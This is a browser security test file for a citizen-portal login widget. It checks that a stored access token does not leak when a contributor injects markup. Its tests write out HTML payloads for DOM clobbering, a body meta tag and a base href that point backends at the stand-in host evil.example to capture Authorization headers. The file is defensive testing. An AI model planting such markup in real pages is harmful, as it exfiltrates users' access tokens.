import assert from 'node:assert/strict';
import { test } from 'node:test';
import { signInToOverview, useWorld } from './browser.mjs';

/*
 * Review of overview-head.ts with the real built files: a signed-in citizen
 * reloads a page into which a contributor has written markup. The stored
 * access token must reach only the page's origin and backends the page's
 * head declares.
 */

const ctx = useWorld({ scenario: 'returning' });
const EVIL = 'https://evil.example';

/** Answers everything on evil.example (CORS allowed, so the browser sends), and records the Authorization headers it got. */
async function catchEvil(page) {
  const got = [];
  await page.route(`${EVIL}/**`, async (route) => {
    const request = route.request();
    const headers = await request.allHeaders();
    const cors = {
      'Access-Control-Allow-Origin': headers.origin ?? ctx.world.origin,
      'Access-Control-Allow-Headers': 'authorization, accept',
      'Access-Control-Allow-Methods': 'GET',
    };
    got.push(`${request.method()} ${new URL(request.url()).pathname} ${headers.authorization ?? '(none)'}`);
    if (request.method() === 'OPTIONS') return route.fulfill({ status: 204, headers: cors });
    return route.fulfill({ status: 200, headers: { ...cors, 'Content-Type': 'application/json' }, body: '{}' });
  });
  return got;
}

/** Signs in on portal.html, then serves the page with `edit(html)` applied on the reload; returns what evil.example received. */
async function reloadWith(edit, extraRoutes = async () => undefined) {
  const page = await ctx.browser.newPage();
  const url = `${ctx.world.origin}/pages/portal.html`;
  await signInToOverview(page, url);
  const got = await catchEvil(page);
  await extraRoutes(page);
  await page.route(url, async (route) => {
    const response = await route.fetch();
    return route.fulfill({ response, body: edit(await response.text()) });
  });
  const log = [];
  page.on('requestfinished', (r) => log.push(`${r.method()} ${r.url()} ${r.redirectedFrom() ? 'from ' + r.redirectedFrom().url() : ''}`));
  page.on('requestfailed', (r) => log.push(`FAILED ${r.method()} ${r.url()} ${r.failure()?.errorText}`));
  await page.reload();
  await page.waitForTimeout(1500);
  if (process.env.REVIEW_DEBUG) console.log(log.join('\n'));
  await page.close();
  return got;
}

test('DOM clobbering: <form name="head"> with a <meta> in the body does not make the reload send the token to an undeclared origin', async () => {
  const got = await reloadWith((html) =>
    html.replace(
      /<kassenzeichen-manager[^>]*>/,
      `<form name="head"><meta name="buergerportal-widgets-backends" content="${EVIL}"></form>` +
        `<kassenzeichen-manager login="login" backend-url="${EVIL}/api">`,
    ),
  );
  assert.deepEqual(got, [], `evil.example received: ${got.join('; ')}`);
});

test('held: a <meta> in the body and a <base href> do not declare evil.example; nothing reaches it', async () => {
  const got = await reloadWith((html) =>
    html.replace(
      /<kassenzeichen-manager[^>]*>/,
      `<meta name="buergerportal-widgets-backends" content="${EVIL}"><base href="${EVIL}/">` +
        `<kassenzeichen-manager login="login" backend-url="${EVIL}/api">`,
    ),
  );
  assert.deepEqual(got, [], `evil.example received: ${got.join('; ')}`);
});

// Not verified: Playwright-fulfilled redirects to another origin end in net::ERR_FAILED before reaching the
// other server, so this cannot tell. By reading: sendEarly and the API client both fetch with the default
// redirect: 'follow' and the same headers, so the early GETs behave on redirects exactly as the client's own.
test('an unparsable backend-url in a contributor’s second manager does not stop the page’s login from starting on a reload', async () => {
  const page = await ctx.browser.newPage();
  const url = `${ctx.world.origin}/pages/portal.html`;
  await signInToOverview(page, url);
  await page.route(url, async (route) => {
    const response = await route.fetch();
    const html = (await response.text()).replace(
      '</main>',
      '<kassenzeichen-manager backend-url="https://["></kassenzeichen-manager></main>',
    );
    return route.fulfill({ response, body: html });
  });
  await page.reload();
  const shown = page.locator('servicekonto-login').getByRole('button', { name: 'Abmelden' });
  await shown.waitFor({ timeout: 5000 }).catch(() => undefined);
  const text = await page.locator('servicekonto-login').evaluate((login) => login.shadowRoot?.textContent?.replace(/\s+/g, ' ').trim());
  assert.ok(await shown.isVisible(), `the login shows: ${text}`);
  await page.close();
});
